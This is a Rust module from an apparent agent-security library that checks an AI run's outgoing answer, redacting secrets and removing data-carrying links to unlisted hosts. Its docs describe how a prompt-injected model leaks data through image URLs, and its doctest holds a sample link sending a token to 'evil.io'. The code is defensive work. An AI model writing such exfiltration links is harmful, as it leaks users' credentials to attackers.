//! Output checks: what a run is about to say (a final answer, an outgoing
//! message) is scanned before it leaves.
//!
//! - Registered secrets and credential-shaped strings are redacted (see
//!   [`Redactor`]) and reported.
//! - Exfiltration links are removed and reported: a Markdown image or link,
//!   reference definition or bare `http(s)` URL that the run's egress
//!   [`HostAllowlist`] refuses **and** that carries data in the URL — a query
//!   string, a fragment, user information, or a long path segment. A
//!   prompt-injected model leaks data by writing it into such a URL; a
//!   renderer that shows the answer fetches images without a click.
//!
//! A link stays when the allowlist lets a fetching tool reach its URL
//! ([`HostAllowlist::check_url`]: scheme, no user information, default port
//! unless any port is allowed, listed host). Links without data, and relative or
//! non-`http(s)` links are kept. URLs that do not parse are removed when
//! they are not allowlisted (a renderer may still make sense of them).
//!
//! The findings are what the security-event system publishes; they never
//! hold a secret's value (URLs in findings are redacted first).
//!
//! # Limits
//!
//! - Links are found by scanning, not by rendering: bare URLs need an
//!   `http://` or `https://` scheme; protocol-relative URLs (`//host/...`)
//!   are recognised only as Markdown destinations and reference definitions,
//!   so an HTML attribute such as `src="//host/?d=..."` is not caught.
//! - A Markdown destination longer than 2 KiB is not parsed as one; an
//!   `http(s)` URL there is still caught as a bare URL.
//! - "Carries data" is a heuristic (query, fragment, user information, a path
//!   segment longer than [`DEFAULT_MAX_PATH_SEGMENT`] bytes); data spread over
//!   many short path segments or host labels is not recognised. Keep the
//!   allowlist tight: links to unlisted hosts are the risk.

mod links;

use std::collections::BTreeMap;
use std::ops::Range;

pub use links::LinkKind;

use super::patterns::CredentialKind;
use super::redact::{RedactionLabel, Redactor};
use crate::guard::HostAllowlist;

/// What replaces a removed image.
pub const IMAGE_PLACEHOLDER: &str = "[image removed]";
/// What replaces a removed link or URL.
pub const LINK_PLACEHOLDER: &str = "[link removed]";
/// The default longest path segment a link to an unlisted host may have.
pub const DEFAULT_MAX_PATH_SEGMENT: usize = 32;
/// The longest URL quoted in a finding.
const MAX_REPORTED_URL: usize = 256;

/// Why a link counts as carrying data.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum ExfilReason {
    /// The URL has a query string.
    Query,
    /// The URL has a fragment.
    Fragment,
    /// The URL has a user name or password.
    Userinfo,
    /// A path segment is longer than the checker's limit.
    LongPathSegment,
    /// The URL could not be parsed, so what it carries is unknown.
    Unparseable,
}

/// Something the output check found.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum OutputFinding {
    /// A registered secret was redacted.
    Secret {
        /// The secret's name.
        name: String,
        /// How many spans were redacted.
        occurrences: usize,
    },
    /// A credential-shaped string was redacted.
    Credential {
        /// What it looked like.
        kind: CredentialKind,
        /// How many spans were redacted.
        occurrences: usize,
    },
    /// A link that could carry data to an unlisted host was removed.
    ExfiltrationLink {
        /// Image, link or bare URL.
        kind: LinkKind,
        /// The host, when the URL parsed.
        host: Option<String>,
        /// Why it counts as carrying data.
        reason: ExfilReason,
        /// The URL, redacted and shortened.
        url: String,
    },
}

/// The checked text and what was found in it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct OutputCheck {
    /// The text with secrets redacted and exfiltration links removed.
    pub text: String,
    /// What was found, in order: secrets, credentials, then links.
    pub findings: Vec<OutputFinding>,
}

impl OutputCheck {
    /// Whether nothing was found (the text is unchanged).
    pub fn is_clean(&self) -> bool {
        self.findings.is_empty()
    }
}

/// Checks outgoing text for secrets and exfiltration links.
///
/// ```
/// use agentsec_runtime::secrets::{OutputChecker, OutputFinding, Redactor};
/// use agentsec_runtime::guard::HostAllowlist;
/// let redactor = Redactor::new();
/// let _ = redactor.register("crm_token", "crm-7f3a9c2e");
/// let checker = OutputChecker::new(redactor)
///     .with_allowlist(HostAllowlist::new(["*.example.com"]).unwrap());
///
/// let answer = "Done! ![status](https://evil.io/p.png?d=crm-7f3a9c2e) \
///               Details: https://docs.example.com/orders?id=42";
/// let checked = checker.check(answer);
/// assert_eq!(checked.text, "Done! [image removed] Details: https://docs.example.com/orders?id=42");
/// assert!(matches!(checked.findings[0], OutputFinding::Secret { .. }));
/// assert!(matches!(checked.findings[1], OutputFinding::ExfiltrationLink { .. }));
/// ```
#[derive(Clone, Debug)]
pub struct OutputChecker {
    redactor: Redactor,
    allowlist: HostAllowlist,
    max_path_segment: usize,
}

impl OutputChecker {
    /// A checker using the run's redactor and an empty allowlist.
    pub fn new(redactor: Redactor) -> Self {
        Self {
            redactor,
            allowlist: HostAllowlist::default(),
            max_path_segment: DEFAULT_MAX_PATH_SEGMENT,
        }
    }

    /// The same checker with another redactor (a run's, see
    /// [`Redactor::scoped`]).
    pub fn with_redactor(&self, redactor: Redactor) -> Self {
        Self {
            redactor,
            ..self.clone()
        }
    }

    /// Sets the hosts links with data may point to.
    pub fn with_allowlist(mut self, allowlist: HostAllowlist) -> Self {
        self.allowlist = allowlist;
        self
    }

    /// Sets the longest path segment (in bytes, as written) a link to an
    /// unlisted host may have before it counts as carrying data.
    pub fn with_max_path_segment(mut self, max: usize) -> Self {
        self.max_path_segment = max;
        self
    }

    /// Checks `text`.
    pub fn check(&self, text: &str) -> OutputCheck {
        let redactions = self.redactor.find(text);
        let mut findings = redaction_findings(&redactions);
        let mut edits: Vec<(Range<usize>, String, bool)> = redactions
            .into_iter()
            .map(|r| (r.range, r.label.placeholder(), false))
            .collect();

        for link in links::find_links(text) {
            let url = text.get(link.url.clone()).unwrap_or_default();
            if let Some((host, reason)) = self.exfiltration(url) {
                findings.push(OutputFinding::ExfiltrationLink {
                    kind: link.kind,
                    host,
                    reason,
                    url: shorten(&self.redactor.redact_str(url)),
                });
                let placeholder = match link.kind {
                    LinkKind::Image => IMAGE_PLACEHOLDER,
                    LinkKind::Link | LinkKind::Bare => LINK_PLACEHOLDER,
                };
                edits.push((link.span, placeholder.to_owned(), true));
            }
        }
        OutputCheck {
            text: apply(text, edits),
            findings,
        }
    }

    /// `Some((host, reason))` when `url` leads to an unlisted host and
    /// carries data; `None` when the link may stay.
    fn exfiltration(&self, url: &str) -> Option<(Option<String>, ExfilReason)> {
        let url = url.trim();
        let absolute = match url.get(..2) {
            Some("//") => format!("https:{url}"),
            _ => url.to_owned(),
        };
        let parsed = match url::Url::parse(&absolute) {
            Ok(parsed) => parsed,
            // A path on the application's own site.
            Err(url::ParseError::RelativeUrlWithoutBase) => return None,
            Err(_) if has_http_scheme(&absolute) => return Some((None, ExfilReason::Unparseable)),
            Err(_) => return None,
        };
        if !matches!(parsed.scheme(), "http" | "https") {
            return None;
        }
        if self.allowlist.check_url(&parsed).is_ok() {
            return None;
        }
        let host = parsed.host_str().map(str::to_owned);
        let reason = if parsed.query().is_some_and(|q| !q.is_empty()) {
            ExfilReason::Query
        } else if parsed.fragment().is_some_and(|f| !f.is_empty()) {
            ExfilReason::Fragment
        } else if !parsed.username().is_empty() || parsed.password().is_some() {
            ExfilReason::Userinfo
        } else if parsed
            .path_segments()
            .is_some_and(|mut segments| segments.any(|s| s.len() > self.max_path_segment))
        {
            ExfilReason::LongPathSegment
        } else {
            return None;
        };
        Some((host, reason))
    }
}

fn has_http_scheme(url: &str) -> bool {
    let lower = url.get(..8).unwrap_or(url).to_ascii_lowercase();
    lower.starts_with("http://") || lower.starts_with("https://") || lower.starts_with("https:")
}

fn shorten(url: &str) -> String {
    if url.len() <= MAX_REPORTED_URL {
        return url.to_owned();
    }
    let mut end = MAX_REPORTED_URL;
    while !url.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", url.get(..end).unwrap_or_default())
}

/// One finding per secret name and per credential kind, with counts.
fn redaction_findings(redactions: &[super::redact::Redaction]) -> Vec<OutputFinding> {
    let mut secrets: BTreeMap<&str, usize> = BTreeMap::new();
    let mut credentials: Vec<(CredentialKind, usize)> = Vec::new();
    for redaction in redactions {
        match &redaction.label {
            RedactionLabel::Secret(name) => *secrets.entry(name).or_default() += 1,
            RedactionLabel::Credential(kind) => {
                match credentials.iter_mut().find(|(k, _)| k == kind) {
                    Some((_, count)) => *count += 1,
                    None => credentials.push((*kind, 1)),
                }
            }
        }
    }
    let secrets = secrets
        .into_iter()
        .map(|(name, occurrences)| OutputFinding::Secret {
            name: name.to_owned(),
            occurrences,
        });
    let credentials = credentials
        .into_iter()
        .map(|(kind, occurrences)| OutputFinding::Credential { kind, occurrences });
    secrets.chain(credentials).collect()
}

/// Applies the edits `(range, replacement, is_link)`. Overlapping edits are
/// joined into one; a removed link's placeholder wins over a redaction's.
fn apply(text: &str, mut edits: Vec<(Range<usize>, String, bool)>) -> String {
    edits.sort_by(|a, b| a.0.start.cmp(&b.0.start).then(b.0.end.cmp(&a.0.end)));
    let mut merged: Vec<(Range<usize>, String, bool)> = Vec::with_capacity(edits.len());
    for edit in edits {
        match merged.last_mut() {
            Some(last) if edit.0.start < last.0.end => {
                last.0.end = last.0.end.max(edit.0.end);
                if edit.2 && !last.2 {
                    last.1 = edit.1;
                    last.2 = true;
                }
            }
            _ => merged.push(edit),
        }
    }
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for (range, replacement, _) in merged {
        out.push_str(text.get(at..range.start).unwrap_or_default());
        out.push_str(&replacement);
        at = range.end;
    }
    out.push_str(text.get(at..).unwrap_or_default());
    out
}
